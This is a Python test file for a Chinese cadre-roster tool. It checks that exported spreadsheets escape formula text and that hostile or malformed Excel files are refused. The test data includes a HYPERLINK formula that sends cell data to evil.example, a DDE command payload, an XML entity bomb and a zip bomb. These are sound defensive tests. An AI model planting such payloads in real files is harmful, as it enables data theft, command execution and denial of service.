"""Hostile and careless Excel files: formulas in exported text, bombs, wrong formats (issue 9)."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference

from cadre_desk.errors import StorageError
from cadre_desk.services.context import ServiceContext
from cadre_desk.transfer import activity, roster

FORMULAS = {
    "post": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "notes": "=cmd|' /C calc'!A0",
    "native_place": "+浙江杭州",
    "professional_title": "-高级经济师",
    "speciality": "@SUM(1,2)",
}


def test_exported_text_that_looks_like_a_formula_is_text_and_reads_back_equal(  # type: ignore[no-untyped-def]
    ctx: ServiceContext, cadre_factory, tmp_path: Path
) -> None:
    cadre_factory("王建国", **FORMULAS)
    dest = tmp_path / "名册.xlsx"
    columns = ["name", "birth", "post", "notes", "native_place", "professional_title"]
    roster.export_roster(ctx, dest, columns=columns)
    with zipfile.ZipFile(dest) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(dest)  # formulas would read back as formulas here
    cells = {c.value: c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)}
    for column in ("post", "notes", "native_place", "professional_title"):
        cell = cells[FORMULAS[column]]
        assert cell.data_type == "s" and cell.quotePrefix
    book.close()
    _sheet, plan = roster.plan_roster(ctx, dest)
    assert plan.summary() == {"create": 0, "update": 0, "unchanged": 1, "rejected": 0}


def test_talk_export_writes_formula_text_as_text(ctx: ServiceContext, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "@x", "plain"])
    dest = tmp_path / "x.xlsx"
    roster.save_book(book, dest)
    with zipfile.ZipFile(dest) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    values = [c.value for c in openpyxl.load_workbook(dest, data_only=True).active[1]]
    assert values == ["=1+1", "@x", "plain"]
    assert activity.save_book is roster.save_book  # the client's other exports share the writer


# --- files that are not what they claim to be --------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def _small_roster(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["姓名", "性别", "出生年月", "单位", "现任职务"])
    book.active.append(["王一", "男", "1985.03", "XX镇", "镇长"])
    book.save(path)
    return path


def _rewrite_member(path: Path, member: str, content: bytes | None = None, pad: int = 0) -> Path:
    """Copy the zip with `member` replaced by `content` (or by the old text padded with `pad` spaces)."""
    out = path.with_name("hostile-" + path.name)
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != member:
                dst.writestr(info, src.read(info))
                continue
            if content is not None:
                dst.writestr(member, content)
                continue
            old = src.read(info)
            cut = old.index(b"</sheetData>")
            with dst.open(member, "w", force_zip64=True) as f:
                f.write(old[:cut])
                block = b" " * (8 << 20)
                for _ in range(pad // len(block)):
                    f.write(block)
                f.write(old[cut:])
    return out


def _refused(path: Path, *words: str) -> str:
    with pytest.raises(StorageError) as err:
        roster.open_roster(path)
    for word in words:
        assert word in str(err.value)
    return str(err.value)


def test_an_entity_in_the_sheet_xml_is_refused(tmp_path: Path) -> None:
    path = _small_roster(tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read(SHEET).decode()
    entity = sheet.replace("<worksheet", '<!DOCTYPE worksheet [<!ENTITY who "王二">]>\n<worksheet', 1)
    entity = entity.replace("王一", "&who;")
    _refused(_rewrite_member(path, SHEET, entity.encode()), "实体")


def test_a_billion_laughs_sheet_is_refused(tmp_path: Path) -> None:
    path = _small_roster(tmp_path / "r.xlsx")
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read(SHEET).decode()
    bomb = sheet.replace("<worksheet", f"<!DOCTYPE lolz [{''.join(lol)}]>\n<worksheet", 1)
    bomb = bomb.replace("王一", "&lol9;")
    _refused(_rewrite_member(path, SHEET, bomb.encode()), "实体")


def test_a_zip_bomb_is_refused_from_the_directory(tmp_path: Path) -> None:
    path = _small_roster(tmp_path / "r.xlsx")
    bomb = _rewrite_member(path, SHEET, pad=200 << 20)
    assert bomb.stat().st_size < 2 << 20
    _refused(bomb, "压缩")


def test_a_sheet_with_a_cell_at_the_far_corner_is_refused(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["姓名", "性别", "出生年月"])
    book.active["XFD1048576"] = "x"
    book.save(tmp_path / "r.xlsx")
    _refused(tmp_path / "r.xlsx", "过大")


def test_old_xls_csv_encrypted_folder_fifo_and_chart_sheets_say_what_they_are(tmp_path: Path) -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    (tmp_path / "old.xls").write_bytes(ole + "Workbook".encode("utf-16-le") + bytes(4000))
    _refused(tmp_path / "old.xls", "旧版", ".xls")
    (tmp_path / "locked.xlsx").write_bytes(
        ole + "EncryptionInfo".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le") + bytes(4000)
    )
    message = _refused(tmp_path / "locked.xlsx", "密码")
    assert "zip" not in message
    (tmp_path / "r.csv").write_text("姓名,性别,出生年月\n王一,男,1985.03\n", encoding="utf-8")
    _refused(tmp_path / "r.csv", "CSV")
    _small_roster(tmp_path / "named.csv")  # a real workbook under another name is read by content
    assert roster.open_roster(tmp_path / "named.csv").columns
    (tmp_path / "folder.xlsx").mkdir()
    _refused(tmp_path / "folder.xlsx", "文件夹")
    os.mkfifo(tmp_path / "fifo.xlsx")
    _refused(tmp_path / "fifo.xlsx", "不是普通文件")
    (tmp_path / "half.xlsx").write_bytes(_small_roster(tmp_path / "whole.xlsx").read_bytes()[:900])
    _refused(tmp_path / "half.xlsx", "损坏")

    book = openpyxl.Workbook()
    book.remove(book.active)
    book.create_chartsheet("图表")
    book.save(tmp_path / "chart.xlsx")
    _refused(tmp_path / "chart.xlsx")  # openpyxl cannot read it back: a message, not a traceback
    book = openpyxl.Workbook()
    book.active.append(["姓名", "性别", "出生年月"])
    book.active.append(["王一", "男", 1985])
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=3, min_row=1, max_row=2), titles_from_data=True)
    book.create_chartsheet("图表", 0).add_chart(chart)
    book.save(tmp_path / "both.xlsx")
    with pytest.raises(StorageError, match="图表"):
        roster.open_roster(tmp_path / "both.xlsx", sheet="图表")
    assert roster.open_roster(tmp_path / "both.xlsx").sheet == "Sheet"  # the first sheet with data
